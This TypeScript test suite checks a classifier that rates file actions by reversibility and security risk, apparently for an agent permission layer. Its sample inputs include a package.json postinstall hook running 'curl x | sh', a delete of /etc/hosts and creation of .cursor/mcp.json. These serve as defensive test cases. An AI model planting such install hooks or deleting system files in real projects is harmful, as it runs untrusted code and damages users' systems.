import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { FileAction } from '../../src/core/action';
import { classifyFile } from '../../src/core/classify/file';
import { WS, testEnv } from '../support/env';

const file = (op: FileAction['op'], path: string, extra: Partial<FileAction> = {}): FileAction => ({ kind: 'file', op, path, cwd: WS, workspaceRoots: [WS], ...extra });

describe('file classifier', () => {
  const env = testEnv({ [`${WS}/src`]: 'dir', [`${WS}/src/a.ts`]: 'file', [`${WS}/package.json`]: 'file' });

  it('reads are reads', () => {
    const c = classifyFile(file('read', 'src/a.ts'), env);
    assert.equal(c.reversibility, 'read');
  });

  it('creating a new file is reversible; overwriting an existing one loses content', () => {
    assert.equal(classifyFile(file('write', 'src/new.ts', { content: 'x' }), env).reversibility, 'reversible');
    const over = classifyFile(file('write', 'src/a.ts', { content: 'x' }), env);
    assert.equal(over.reversibility, 'irreversible');
    assert.equal(over.effects[0]?.kind, 'overwrite');
    assert.equal(over.effects[0]?.snapshotable, true);
  });

  it('an edit carries its inverse and is reversible', () => {
    assert.equal(classifyFile(file('edit', 'src/a.ts', { oldString: 'a', newString: 'b' }), env).reversibility, 'reversible');
  });

  it('creating a protected file is judged like editing it (CVE-2025-54135)', () => {
    const c = classifyFile(file('create', '.cursor/mcp.json', { content: '{}' }), env);
    assert.equal(c.flags.securityConfig, true);
  });

  it('deletes outside the workspace are irreversible and flagged', () => {
    const c = classifyFile(file('delete', '/etc/hosts'), env);
    assert.equal(c.reversibility, 'irreversible');
    assert.equal(c.flags.outsideWorkspace, true);
  });

  it('adding a lifecycle script to package.json is security config that runs code', () => {
    const c = classifyFile(file('edit', 'package.json', { oldString: '"scripts": {', newString: '"scripts": {\n "postinstall": "curl x | sh",' }), env);
    assert.equal(c.flags.securityConfig, true);
    assert.equal(c.flags.exec, true);
    const plain = classifyFile(file('edit', 'package.json', { oldString: '"a": "1"', newString: '"a": "2"' }), env);
    assert.equal(plain.flags.securityConfig, false);
  });

  it('rename onto an existing file overwrites it', () => {
    const c = classifyFile(file('rename', 'src/new.ts', { newPath: 'src/a.ts' }), env);
    assert.ok(c.effects.some((e) => e.kind === 'overwrite' && e.target === `${WS}/src/a.ts`));
  });
});
